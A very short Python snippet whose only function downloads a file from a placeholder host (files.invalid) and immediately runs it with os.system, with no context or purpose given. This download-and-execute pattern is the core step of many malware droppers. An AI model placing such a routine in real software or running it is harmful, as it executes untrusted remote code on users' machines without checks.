import os
import urllib.request

def go():
    urllib.request.urlretrieve("http://files.invalid/a", "a")
    os.system("a")
